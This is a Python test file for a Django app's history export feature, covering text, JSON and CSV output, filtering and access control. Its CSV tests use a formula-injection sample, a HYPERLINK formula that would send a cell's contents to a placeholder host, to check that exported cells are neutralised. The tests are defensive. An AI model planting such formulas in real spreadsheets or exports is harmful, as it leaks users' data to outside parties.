import csv
import io
import json

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from conftest import NOON
from postwright.flow.analysis import operations
from postwright.flow.analysis.queries import export, history
from postwright.flow.media import operations as media
from postwright.flow.media.tests import files
from postwright.kit.ids import uuid7

CALCULATES = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA = '=HYPERLINK("http://example.org?"&A1)'


def read(answer):
    return b"".join(answer.streaming_content).decode()


@pytest.fixture
def exported(as_member, wilma, finished):
    def get(form, **asked):
        return read(as_member(wilma).get(reverse("history-export", args=[form]), asked))

    return get


class TestExport:
    def test_as_text_is_what_would_be_used(self, exported, captions, wilma):
        operations.decide_suggestion(
            suggestion=captions[1], decision="edited", value="Ours.", by=wilma, at=NOON
        )
        said = exported("txt")

        assert said.startswith("# coffee.png\n")
        assert "Caption:\nOurs.\n" in said

    def test_as_json_says_who_made_each_and_what_became_of_it(self, exported, captions, wilma):
        operations.decide_suggestion(
            suggestion=captions[0], decision="edited", value="Ours.", by=wilma, at=NOON
        )
        [one] = json.loads(exported("json"))
        decided = next(s for s in one["suggestions"] if s["used"] == "Ours.")

        assert (decided["value"], decided["decision"], decided["decided_by"]) == (
            captions[0].value,
            "edited",
            "Wilma",
        )
        assert decided["evidence"][0]["source"]
        assert (one["provenance"]["engine"], one["file"]) == ("embedded", "coffee.png")

    def test_as_csv_has_a_row_for_each_suggestion(self, exported, finished):
        rows = list(csv.DictReader(io.StringIO(exported("csv").removeprefix(export.BOM))))

        assert len(rows) == finished.suggestions.count()
        assert {(row["file"], row["engine"]) for row in rows} == {("coffee.png", "embedded 1")}

    def test_as_csv_calculates_nothing(self, exported, captions, wilma):
        operations.decide_suggestion(
            suggestion=captions[0], decision="edited", value=FORMULA, by=wilma, at=NOON
        )
        rows = list(csv.DictReader(io.StringIO(exported("csv").removeprefix(export.BOM))))

        assert f"'{FORMULA}" in {row["used"] for row in rows}

    @given(st.lists(st.text() | st.text(';="+-@,\n\r\t a'), min_size=1, max_size=5))
    def test_keeps_every_cell_apart_and_harmless(self, cells):
        line = export._line(map(export._harmless, cells))
        [row] = csv.reader(io.StringIO(line, newline=""))

        assert [cell.replace("'", "") for cell in row] == [cell.replace("'", "") for cell in cells]
        assert not [cell for cell in row if cell.lstrip(" ").startswith(CALCULATES)]

    @given(st.lists(st.text(';="+-@,\n\r\t a'), min_size=1, max_size=5))
    def test_is_harmless_where_cells_are_parted_at_semicolons(self, cells):
        """As Excel does in Germany, quotes or not."""
        line = export._line(map(export._harmless, cells))
        rows = csv.reader(io.StringIO(line, newline=""), delimiter=";")

        assert not [cell for row in rows for cell in row if cell.lstrip(' \t"').startswith(CALCULATES)]

    @pytest.mark.parametrize("cell", ["a;=1+1", "a\n=1+1", 'a; "=1+1', "=1+1", "\t=1+1"])
    def test_marks_what_would_be_calculated(self, cell):
        assert export._harmless(cell).count("'") == 1

    @pytest.mark.parametrize("cell", ["Bread; rolls\n\nAnd more.", "a = b", "x@example.org"])
    def test_leaves_all_else_as_it_is(self, cell):
        assert export._harmless(cell) == cell

    def test_holds_what_the_history_shows(self, exported, finished):
        assert json.loads(exported("json", q="oat")) != []
        assert (
            json.loads(exported("json", q="tractor"))
            == json.loads(exported("json", since="2030-01-01"))
            == []
        )

    def test_leaves_out_other_runs_of_what_it_shows(self, exported, as_member, wilma, finished):
        batch, item, brand = uuid7(), finished.media_item, finished.brand
        operations.request_analysis(media_item=item, brand=brand, batch=batch, by=wilma, at=NOON)
        together = read(as_member(wilma).get(reverse("batch-export", args=[batch, "json"])))

        assert len(json.loads(exported("json"))) == 2
        assert len(json.loads(together)) == 1
        assert [one["analysis"] for one in json.loads(exported("json", q="oat"))] == [str(finished.pk)]
        assert len(json.loads(exported("json", q="coffee.png"))) == 2

    def test_reads_on_where_there_is_more(self, exported, finished, anna, brand, monkeypatch):
        monkeypatch.setattr(history, "AT_ONCE", 1)
        item = media.upload_media(stream=files.coffee(), file_name="two.png", brand=brand, by=anna, at=NOON)
        operations.request_analysis(media_item=item, brand=brand, by=anna, at=NOON)

        assert [one["file"] for one in json.loads(exported("json"))] == ["two.png", "coffee.png"]

    def test_of_one_item(self, as_member, vera, finished):
        address = reverse("item-export", args=[finished.media_item_id, "json"])
        answer = as_member(vera).get(address)

        assert answer["Content-Disposition"].startswith('attachment; filename="postwright-')
        assert len(json.loads(read(answer))) == 1

    def test_speaks_the_readers_language(self, as_member, wilma, finished):
        wilma.user.language = "de"
        wilma.user.save()

        assert "Bildtext:\n" in read(as_member(wilma).get(reverse("history-export", args=["txt"])))

    def test_is_not_for_strangers(self, as_member, sam, finished):
        browser = as_member(sam)

        assert browser.get(reverse("item-export", args=[finished.media_item_id, "csv"])).status_code == 404
        assert json.loads(read(browser.get(reverse("history-export", args=["json"])))) == []
        assert browser.get("/studio/history.xls").status_code == 404
